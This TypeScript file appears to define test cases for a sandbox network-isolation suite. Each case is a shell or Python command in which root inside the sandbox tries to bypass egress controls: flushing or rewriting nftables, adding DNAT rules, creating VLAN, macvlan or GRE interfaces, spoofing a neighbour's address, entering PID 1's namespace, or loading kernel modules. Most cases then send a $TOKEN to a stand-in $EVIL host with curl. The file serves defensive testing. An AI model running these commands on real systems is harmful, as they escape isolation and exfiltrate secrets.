// What root does to the network of its own sandbox: with every capability, and with those that the product leaves it.

import { type AttackCase, cases } from './case.ts'

const marked = (value: number) => `options=[(socket.SOL_SOCKET, 36, ${value})]`

export const OWN_NETWORK: AttackCase[] = [
  ...cases({ as: 'all', recorded: 'connection', isAlone: true }, [
    [
      'B6-nft-flush',
      'the packet filter of its own namespace flushed, then a connection',
      "sh('nft flush ruleset; echo $TOKEN | timeout 2 curl -sS -m 1 telnet://$EVIL:$PORT')",
    ],
    [
      'B6-nft-accept',
      'rules of its own that accept everything',
      'sh(\'nft add table inet mine && nft "add chain inet mine c { type filter hook output priority -500; policy accept; }"; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN\')',
    ],
    [
      'B6-nft-dnat',
      'an allowed destination that becomes another one inside',
      'sh(\'nft add table ip mine2 && nft "add chain ip mine2 o { type nat hook output priority -100; }" && nft add rule ip mine2 o ip daddr $GOOD tcp dport 81 dnat to $EVIL:$PORT; curl -sS -m 1 http://$GOOD:81/$TOKEN; nft delete table ip mine2\')',
    ],
    [
      'B6-link-down-up',
      'its interface taken down and up',
      "sh('ip link set $INTERFACE down; ip link set $INTERFACE up; ip route replace default via $GATEWAY dev $INTERFACE onlink; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN')",
    ],
    [
      'B6-link-address',
      'another hardware address',
      "sh('ip link set $INTERFACE address 02:00:00:00:00:77; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip link set $INTERFACE address ' + FACTS['ownMac'])",
    ],
    [
      'B6-mtu',
      'the smallest packets that there are',
      "sh('ip link set $INTERFACE mtu 576; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip link set $INTERFACE mtu 1500')",
    ],
    [
      'B6-policy-routing',
      'routes and rules of its own',
      "sh('ip rule add pref 5 lookup 99; ip route add $EVIL via $GATEWAY dev $INTERFACE onlink table 99; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip rule del pref 5')",
    ],
    [
      'B6-vlan-interface',
      'an interface of a VLAN above its own',
      "sh('ip link add link $INTERFACE name v7 type vlan id 7 && ip address add 192.168.7.2/24 dev v7 && ip link set v7 up && ip route add $EVIL dev v7; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip link del v7')",
      { recorded: 'quiet' },
    ],
    [
      'B6-macvlan',
      'a second interface with the address of another sandbox',
      "[pretended(NEIGHBOUR), sh('ip link add m7 link $INTERFACE type macvlan mode bridge && ip address add ' + NEIGHBOUR + '/32 dev m7 && ip link set m7 up && ip route add $EVIL via $GATEWAY dev m7 onlink src ' + NEIGHBOUR + '; curl -sS -m 1 http://$EVIL:$PORT/$TOKEN; ip link del m7')][-1]",
      { recorded: 'spoofed' },
    ],
    [
      'B6-tunnel',
      'a tunnel interface to the attacker',
      "sh('ip tunnel add t7 mode gre remote $EVIL local $OWN && ip link set t7 up && ip address add 192.168.9.2/24 dev t7; curl -sS -m 1 http://192.168.9.1:$PORT/$TOKEN; ip tunnel del t7')",
      { recorded: 'quiet' },
    ],
    [
      'B6-second-address',
      'the address of another sandbox as its own',
      "[pretended(NEIGHBOUR), sh('ip address add ' + NEIGHBOUR + '/32 dev $INTERFACE; curl -sS -m 1 --interface ' + NEIGHBOUR + ' http://$EVIL:$PORT/$TOKEN; ip address del ' + NEIGHBOUR + '/32 dev $INTERFACE')][-1]",
      { recorded: 'spoofed' },
    ],
  ]),
  ...cases({ as: 'root', recorded: 'unsent' }, [
    ['B1-root-mark', 'root of the sandbox marks a datagram', `udp(evil(), ${marked(1)})`],
    ['B2-root-frame', 'root of the sandbox opens a socket for frames', 'frame(ether() / ip() / data())'],
    ['B2-root-raw', 'root of the sandbox opens a raw socket', 'raw(ip() / scapy().ICMP() / data())'],
    ['B6-root-nft', 'root of the sandbox changes the packet filter', "sh('nft flush ruleset')"],
    ['B6-root-link', 'root of the sandbox takes its interface down', "sh('ip link set $INTERFACE down')"],
    [
      'B6-root-address',
      'root of the sandbox gives itself an address',
      "sh('ip address add 10.99.99.99/32 dev $INTERFACE')",
    ],
    [
      'B6-root-netns',
      'root of the sandbox enters the network of the first process of all',
      "sh('nsenter -t 1 -n ip link set lo down')",
    ],
    [
      'B6-root-unshare',
      'a network of its own with a user of its own, and a raw socket there',
      "sh('unshare -Urn python3 -c \"import socket; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((\\'eth0\\',0))\"')",
    ],
    [
      'B6-root-sysctl',
      'root of the sandbox switches forwarding on',
      "sh('echo 1 > /proc/sys/net/ipv4/ip_forward')",
    ],
    [
      'B6-root-module',
      'root of the sandbox loads a kernel module',
      "sh('modprobe dummy || insmod /nothing.ko || exit 1')",
    ],
    [
      'B6-root-bpf',
      'root of the sandbox asks for a program in the kernel',
      "[None for _ in [0] if __import__('ctypes').CDLL(None, use_errno=True).syscall(321, 0, 0, 0) != -1] or 'exit 1: bpf refused'",
    ],
  ]),
  ...cases({ as: 'root', recorded: 'connection' }, [
    [
      'B10-uid',
      'a process of another user',
      "sh('setpriv --reuid 10042 --clear-groups curl -sS -m 1 http://$EVIL:$PORT/$TOKEN')",
    ],
    [
      'B6-unbound',
      'a socket bound to its interface by name',
      "tcp(evil(), options=[(socket.SOL_SOCKET, 25, b'eth0\\0')])",
    ],
    [
      'S-freebind',
      'a socket with an address that is not its own',
      'tcp(evil(), options=[(socket.IPPROTO_IP, 15, 1)], bind=(NEIGHBOUR, 0))',
      { recorded: 'unsent' },
    ],
  ]),
]
